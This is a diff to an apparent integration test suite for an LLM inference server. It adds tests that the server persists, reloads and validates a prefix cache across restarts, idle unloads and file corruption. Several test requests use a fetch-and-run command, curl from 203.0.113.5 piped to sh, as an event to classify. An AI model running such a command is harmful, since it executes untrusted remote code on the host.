@@ -88,6 +88,7 @@ def free_port():
 def env():
     e = dict(os.environ)
     e["XDG_CONFIG_HOME"] = TMP          # no user config file leaks in
+    e["XDG_CACHE_HOME"] = TMP           # nor cache files out (prefix cache)
     for k in ("THREADS", "NICE_LEVEL", "CTX_SIZE", "NIGHTJAR_TOKEN", "NIGHTJAR_CONFIG"):
         e.pop(k, None)
     return e
@@ -667,6 +668,89 @@ def test_sigterm(s):
     check("SIGTERM: log says it finished cleanly", "requests cancelled" not in s.logtext(), s.logtext()[-500:])
 
 
+def test_prefix_cache(kv):
+    """The system prefix two requests share is written to the prefix cache
+    directory and read back by the next server (restart) and after an idle
+    unload: the first request then reuses it, and its greedy output equals
+    the one computed from scratch, as does the output with the prefix reused
+    in memory.  A corrupted file is rejected with a log line, the prefix
+    computed again, and the file replaced.  kv: the KV cache type."""
+    pdir = os.path.join(TMP, "prefix-" + kv)
+    system = ("You are the endpoint security analyst of a laptop fleet. For each event, decide whether it is "
+              "benign, suspicious or malicious, and answer with one word. ") * 3
+
+    def ask(srv, event):
+        code, b, _, _ = curl(srv.sock, "POST", "/v1/chat/completions", {
+            "messages": [{"role": "system", "content": system}, {"role": "user", "content": event}],
+            "max_tokens": 6, "temperature": 0})
+        j = jbody(b) or {}
+        if code != 200:
+            return None, -1
+        return (j["choices"][0]["message"]["content"],
+                j.get("usage", {}).get("prompt_tokens_details", {}).get("cached_tokens", -1))
+
+    def start(name, *extra):
+        srv = Server("-m", MODEL, "--ctx-size", "512", "--kv-type", kv, "--prefix-cache", pdir, "--log-level", "info",
+                     *extra, name=name)
+        if not srv.wait_ready():
+            print(srv.logtext())
+            return None
+        return srv
+
+    a = start("pfx-a")
+    if not check(f"prefix cache {kv}: server starts", a is not None):
+        return
+    c1, k1 = ask(a, "Event: bash -c 'curl http://203.0.113.5/x | sh'")
+    c2, k2 = ask(a, "Event: ls -la /home/alice")
+    check(f"prefix cache {kv}: the second request reuses the system prefix in memory", k1 == 0 and k2 and k2 >= 32,
+          f"cached {k1}, {k2}")
+    m1, mk = ask(a, "Event: bash -c 'curl http://203.0.113.5/x | sh'")
+    check(f"prefix cache {kv}: greedy output with the prefix from memory equals the one from scratch",
+          mk == k2 and m1 == c1, f"cached {mk}, {m1!r} vs {c1!r}")
+    written = wait_for(lambda: "tokens written to" in a.logtext())
+    files = os.listdir(pdir) if os.path.isdir(pdir) else []
+    check(f"prefix cache {kv}: the shared prefix is written once, to one file", written and len(files) == 1
+          and a.logtext().count("tokens written to") == 1, f"{files} {a.logtext()[-500:]}")
+    a.stop()
+
+    b = start("pfx-b", "--idle-unload", "2")
+    if not check(f"prefix cache {kv}: restarted server starts", b is not None):
+        return
+    check(f"prefix cache {kv}: read back at start", "tokens read from" in b.logtext(), b.logtext()[-500:])
+    r1, rk = ask(b, "Event: bash -c 'curl http://203.0.113.5/x | sh'")
+    check(f"prefix cache {kv}: after a restart the first request reuses the prefix from disk", rk == k2, f"cached {rk}, want {k2}")
+    check(f"prefix cache {kv}: greedy output with the prefix from disk equals the one from scratch", r1 == c1, f"{r1!r} vs {c1!r}")
+    unloaded = wait_for(lambda: b.health().get("model", {}).get("loaded") is False)
+    check(f"prefix cache {kv}: idle unload", unloaded is True)
+    u1, uk = ask(b, "Event: bash -c 'curl http://203.0.113.5/x | sh'")
+    check(f"prefix cache {kv}: after an idle unload the first request reuses the prefix from disk",
+          uk == k2 and b.logtext().count("tokens read from") == 2 and u1 == c1, f"cached {uk}, {u1!r}")
+    check(f"prefix cache {kv}: reads counted in /metrics", b.metrics().count("nightjar_prefix_cache_reads_total 2") == 1)
+    b.stop()
+
+    path = os.path.join(pdir, files[0]) if files else None
+    if path:
+        with open(path, "r+b") as f:
+            f.seek(os.path.getsize(path) // 2)
+            byte = f.read(1)
+            f.seek(-1, 1)
+            f.write(bytes([byte[0] ^ 0x10]))
+    c = start("pfx-c")
+    if not check(f"prefix cache {kv}: server with a corrupt file starts", c is not None):
+        return
+    check(f"prefix cache {kv}: a corrupt file is rejected with a log line", "not used" in c.logtext()
+          and "checksum" in c.logtext(), c.logtext()[-500:])
+    x1, xk = ask(c, "Event: bash -c 'curl http://203.0.113.5/x | sh'")
+    check(f"prefix cache {kv}: ... the prefix is computed again, same output", xk == 0 and x1 == c1, f"cached {xk}, {x1!r}")
+    ask(c, "Event: ls -la /home/alice")
+    check(f"prefix cache {kv}: ... and the file replaced", wait_for(lambda: "tokens written to" in c.logtext()) is True)
+    c.stop()
+    d = start("pfx-d")
+    check(f"prefix cache {kv}: the replaced file is read back", d is not None and "tokens read from" in d.logtext())
+    if d:
+        d.stop()
+
+
 def kill_servers():
     for srv in SERVERS:
         if srv.p.poll() is None:
@@ -708,6 +792,8 @@ def main():
                                  ("metrics", lambda: test_metrics(s)), ("openai", lambda: test_openai(port)),
                                  ("sighup", lambda: test_sighup(s, cfg)), ("idle unload", lambda: test_idle_unload(s, cfg)),
                                  ("token", test_token), ("memory budget", test_mem_budget),
+                                 ("prefix cache f16", lambda: test_prefix_cache("f16")),
+                                 ("prefix cache q8_0", lambda: test_prefix_cache("q8_0")),
                                  ("sigterm", lambda: test_sigterm(s))):
                     try:
                         fn()
